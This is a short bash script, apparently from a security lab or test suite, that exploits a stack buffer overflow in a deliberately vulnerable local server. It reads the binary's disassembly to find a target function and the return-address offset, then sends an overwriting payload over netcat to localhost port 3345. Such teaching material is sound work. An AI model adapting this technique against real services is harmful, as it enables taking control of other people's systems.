#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Exploits the server that listens on port 3345 of localhost. Usage:
#   hack.sh [SERVER_BINARY]
# It reads from the binary where you_hacked_me() is and how far the buffer of
# handle_connection() is from its return address, and sends a string that
# overwrites the latter with the former.
set -euo pipefail

cd "$(dirname "$0")"
binary=${1:-vuln/server}

die() {
	echo "hack.sh: $*" >&2
	exit 1
}

target=$(nm "$binary" | awk '$3 == "you_hacked_me" { print $1 }')
[ -n "$target" ] || die "$binary has no function you_hacked_me"

code=$(objdump -d --no-show-raw-insn "$binary" |
	awk '/<handle_connection>:$/ { on = 1; next } /^$/ { on = 0 } on')
# sub $0x28,%rsp: the size of the frame
frame=$(sed -n 's/.*sub  *\$\(0x[0-9a-f]*\),%rsp.*/\1/p' <<<"$code" | head -n1)
# lea 0x10(%rsp),%rcx: the first address taken in it is the buffer's
buffer=$(sed -n 's/.*lea  *\(0x[0-9a-f]*\)(%rsp),.*/\1/p' <<<"$code" | head -n1)
if [ -z "$frame" ] || [ -z "$buffer" ]; then
	die "$binary: can't make out the frame of handle_connection"
fi

distance=$((frame - buffer))
filler=0123456789ABCDEF01234567890123456789
[ "$distance" -le ${#filler} ] || die "return address $distance bytes away"

# The address, lowest byte first, as \xNN for printf.
address=
for ((i = 14; i >= 0; i -= 2)); do
	address+="\\x${target:i:2}"
done

# -N of netcat-openbsd: close our side when all is sent; -w: never hang.
printf '%s%b' "${filler:0:distance}" "$address" | nc -N -w 5 127.0.0.1 3345
